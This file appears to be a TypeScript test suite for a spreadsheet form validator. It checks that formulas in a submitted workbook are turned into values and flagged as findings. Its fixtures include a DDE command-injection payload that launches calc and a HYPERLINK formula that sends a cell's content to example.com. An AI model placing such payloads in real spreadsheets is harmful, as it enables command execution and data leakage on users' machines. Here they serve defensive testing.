import ExcelJS from "exceljs";
import { formPlan, readSheet } from "../../src/form";
import { reportSchemas } from "../../src/form/finding";
import { writeWorkbook } from "../../src/files/xlsxWrite";
import { cli } from "../support/cli";
import { sampleGrid } from "../support/sampleGrid";
import { tempDir } from "../support/tmp";

const tmp = tempDir();
const record = readSheet(sampleGrid()).forms[2].record;
const DDE = "cmd|' /C calc'!A0";
const LINK = 'HYPERLINK("http://example.com/?"&B4,"点此")';
const SUM = "C6+C7";
const submitted = tmp.path("submitted.xlsx");

/** A filled form whose project name, a goal and the annual total are formulas, with cached values. */
beforeAll(async () => {
  await writeWorkbook(submitted, [
    formPlan(record, { sheet: "表" }),
    {
      sheet: "表",
      ops: [
        { kind: "values", range: "B4", values: [[{ formula: `=${LINK}` }]] },
        { kind: "values", range: "B10", values: [[{ formula: `=${DDE}` }]] },
      ],
    },
  ]);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(submitted);
  const sheet = workbook.getWorksheet("表")!;
  sheet.getCell("B4").value = { formula: LINK, result: record.name ?? "" };
  sheet.getCell("B10").value = { formula: DDE, result: 0 };
  sheet.getCell("E6").value = { formula: SUM, result: Number(record.funding.annual?.total) };
  await workbook.xlsx.writeFile(submitted);
});

function formulasIn(workbook: ExcelJS.Workbook): string[] {
  const found: string[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) found.push(`${sheet.name}!${cell.address}`);
      })
    );
  return found;
}

describe("formulas in a submitted workbook", () => {
  it("are written as their values in an annotated copy, each named by a finding", async () => {
    const out = tmp.path("annotated.xlsx");
    const { stdout } = await cli("validate", submitted, "--annotate", out, "--json");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    expect(formulasIn(workbook)).toEqual([]);
    expect(workbook.getWorksheet("表")!.getCell("B4").value).toBe(record.name);
    const findings = reportSchemas().Report.parse(JSON.parse(stdout)).files[0].forms[0].findings;
    const about = findings.filter((f) => f.code.startsWith("copy.formula"));
    expect(about.map((f) => [f.code, f.cell])).toEqual([
      ["copy.formula-outside", "B4"],
      ["copy.formula-as-value", "E6"],
      ["copy.formula-outside", "B10"],
    ]);
    expect(about[2].message).toContain(DDE);
  });

  it("are written as their values in the summary's copy of the form", async () => {
    const out = tmp.path("summary.xlsx");
    expect((await cli("merge", submitted, "-o", out)).code).toBe(0);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    const copied = formulasIn(workbook).filter((at) => !at.startsWith(workbook.worksheets[0].name));
    expect(copied).toEqual([]);
  });
});
